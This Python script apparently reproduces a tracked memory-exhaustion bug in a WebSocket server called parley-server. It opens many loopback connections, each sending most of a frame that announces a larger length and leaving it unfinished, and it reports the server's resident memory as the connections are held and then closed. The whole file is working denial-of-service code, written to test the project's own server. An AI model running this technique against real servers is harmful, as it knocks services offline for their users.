#!/usr/bin/env python3
# The unfinished-frames attack of issue 17 (item 7), against a running parley-server: N
# connections greet, then each sends 1.4 MiB of one WebSocket frame announcing 1.5 MiB (which
# no member of an encryption group could send before joining it). Prints the server's RSS
# before, at peak, with the connections held, after they close, and after more of the same.
# Usage: parley-server --listen 127.0.0.1:7999 & python3 scripts/attack-unfinished-frames.py 7999 $! 1000
# (raise `ulimit -n` first). Loopback only.
# 1,000 connections: hello, then one frame announcing ~1.5 MiB of which 1.4 MiB is sent. RSS of the server.
import asyncio, base64, os, struct, sys, time
port=int(sys.argv[1]); pid=int(sys.argv[2]); N=int(sys.argv[3])
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS"): return int(l.split()[1])//1024
def frame(payload, announced=None):
    n = len(payload) if announced is None else announced
    h = bytes([0x81]) + (bytes([0x80|n]) if n<126 else bytes([0x80|126])+struct.pack(">H",n) if n<65536 else bytes([0x80|127])+struct.pack(">Q",n))
    return h + b"\0\0\0\0" + payload
async def one(i):
    r,w = await asyncio.open_connection("127.0.0.1", port)
    key=base64.b64encode(os.urandom(16)).decode()
    w.write(f"GET /ws HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    await r.readuntil(b"\r\n\r\n")
    w.write(frame(b'{"type":"hello","protocol":1}'))
    await r.read(4096)
    big = int(os.environ.get("BIG", 1536*1024-100))
    w.write(frame(b"x"*min(big, 1400*1024), announced=big))
    try: await asyncio.wait_for(w.drain(), 10)
    except Exception: pass
    return r,w
async def main():
    print("before", rss(), "MiB")
    conns = await asyncio.gather(*[one(i) for i in range(N)], return_exceptions=True)
    peak=0
    for _ in range(20):
        await asyncio.sleep(0.5); peak=max(peak, rss())
    print("peak", peak, "MiB")
    print("with", N, "unfinished frames", rss(), "MiB", "errors", sum(isinstance(c,Exception) for c in conns))
    for c in conns:
        if not isinstance(c,Exception): c[1].close()
    await asyncio.sleep(5)
    print("after close", rss(), "MiB")
    # some ordinary activity afterwards
    for k in range(3):
        more = await asyncio.gather(*[one(i) for i in range(50)], return_exceptions=True)
        for c in more:
            if not isinstance(c,Exception): c[1].close()
        await asyncio.sleep(5)
        print("after more activity", rss(), "MiB")
asyncio.run(main())
